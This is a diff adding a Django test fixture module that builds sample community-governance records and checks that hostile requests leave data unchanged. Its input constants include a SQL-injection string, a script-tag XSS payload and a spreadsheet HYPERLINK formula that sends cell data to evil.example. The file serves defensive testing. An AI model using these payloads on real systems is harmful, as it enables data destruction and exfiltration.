@@ -1,0 +1,105 @@
+"""The small world the hostile-input tests attack: one of each thing a page or an endpoint can
+be about, in 江汉北路社区 (``north``), and what "nothing changed" means (``snapshot``)."""
+
+from __future__ import annotations
+
+import datetime as dt
+from dataclasses import dataclass
+from typing import Any
+
+from django.apps import apps
+from django.utils import timezone
+
+# 100,000 characters: the description that held SQLite's write lock for 23-47 s (issue 8).
+OVERLONG = "漏" * 100_000
+NUL = "邻居\x00漏水"
+CONTROL = "楼上\x1b[31m漏水\u202eabc\u200f"
+INJECTION = ("'; DROP TABLE cases_case; -- \" OR 1=1 <script>alert(1)</script> "
+             "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此\") 邻\" * ( - 漏")
+SCRIPT = "<script>alert(1)</script>"
+FAR_DATES = ("0001-01-01", "9999-12-31")
+HUGE = "99999999999999999999"
+NEGATIVE = "-1"
+
+# Rows that a refused request may still write: the log-in bookkeeping, sessions, the audit log,
+# rate-limit counts and the cache. Everything else must stay as it was.
+BOOKKEEPING = {"sessions.session", "audit.entry", "core.ratecounter", "accounts.loginfailure",
+               "django_tasks_database.dbtaskresult", "ops.scheduledjob", "accounts.apitoken",
+               "contenttypes.contenttype", "auth.permission", "admin.logentry"}
+
+
+@dataclass
+class World:
+    case: Any
+    activity: Any
+    person: Any
+    unit: Any
+    agreement: Any
+    responsibility_list: Any
+    item: Any
+
+    def ids(self) -> dict[str, int]:
+        return {"case": self.case.pk, "activity": self.activity.pk, "person": self.person.pk,
+                "unit": self.unit.pk, "agreement": self.agreement.pk,
+                "list": self.responsibility_list.pk, "item": self.item.pk}
+
+
+def build(*, north: Any, subdistrict: Any, worker: Any, street_admin: Any) -> World:
+    from fazhi.accounts.services import api_token_create
+    from fazhi.cases.services import case_accept, extension_request
+    from fazhi.cases.tests.factories import make_case
+    from fazhi.core.models import CalendarOverride
+    from fazhi.org.models import Agreement, Person, Unit
+    from fazhi.org.services import duty_slot_create, person_secret_columns
+    from fazhi.outreach.models import ResponsibilityList
+    from fazhi.outreach.tests.conftest import add_item, make_activity
+
+    case = make_case(worker, north)
+    make_case(worker, north, kind="appeal", category="utilities")
+    pending = make_case(worker, north)
+    case_accept(actor=street_admin, case=pending, expected_version=pending.version)
+    extension_request(actor=worker, case=pending, days=10, reason="需要现场勘查")
+    CalendarOverride.objects.create(date=dt.date(2026, 10, 10), is_workday=True, note="调休上班")
+    api_token_create(user=street_admin, name="脚本")
+    now = timezone.now()
+    activity = make_activity(community=north, starts_at=now - dt.timedelta(minutes=10),
+                             ends_at=now + dt.timedelta(hours=2), code="hostile0001")
+    unit = Unit.objects.create(name="江汉北路社区综治工作室", kind=Unit.Kind.COMMUNITY_WORKROOM,
+                               region=north)
+    member = Unit.objects.create(name="西马派出所", kind=Unit.Kind.POLICE_STATION,
+                                 region=subdistrict, is_member_unit=True)
+    person = Person.objects.create(name="张伟", kind=Person.Kind.LAWYER, community=north, unit=unit,
+                                   **person_secret_columns(id_number="11010519491231002X",
+                                                           mobile="13912345678"))
+    agreement = Agreement.objects.create(
+        title="共驻共建协议", region=north, signed_on=dt.date(2026, 1, 5),
+        starts_on=dt.date(2026, 1, 10), ends_on=dt.date(2026, 12, 31))
+    agreement.parties.set([unit])
+    duty_slot_create(actor=street_admin, person=person, community=north, weekday=2,
+                     start=dt.time(9), end=dt.time(11))
+    responsibility_list = ResponsibilityList.objects.create(unit=member, year=2026)
+    item = add_item(responsibility_list)
+    return World(case=case, activity=activity, person=person, unit=unit, agreement=agreement,
+                 responsibility_list=responsibility_list, item=item)
+
+
+def snapshot() -> dict[str, list[tuple]]:
+    """Every row of every table but the bookkeeping ones, as sorted tuples."""
+    rows: dict[str, list[tuple]] = {}
+    for model in apps.get_models():
+        label = model._meta.label_lower
+        if label in BOOKKEEPING or model._meta.proxy or not model._meta.managed:
+            continue
+        rows[label] = sorted(tuple(map(repr, r)) for r in model._base_manager.values_list())
+    return rows
+
+
+def differences(before: dict[str, list[tuple]], after: dict[str, list[tuple]]) -> list[str]:
+    changed = []
+    for label, rows in after.items():
+        old = before.get(label, [])
+        if rows != old:
+            added = len(set(rows) - set(old))
+            removed = len(set(old) - set(rows))
+            changed.append(f"{label} (+{added} -{removed})")
+    return changed
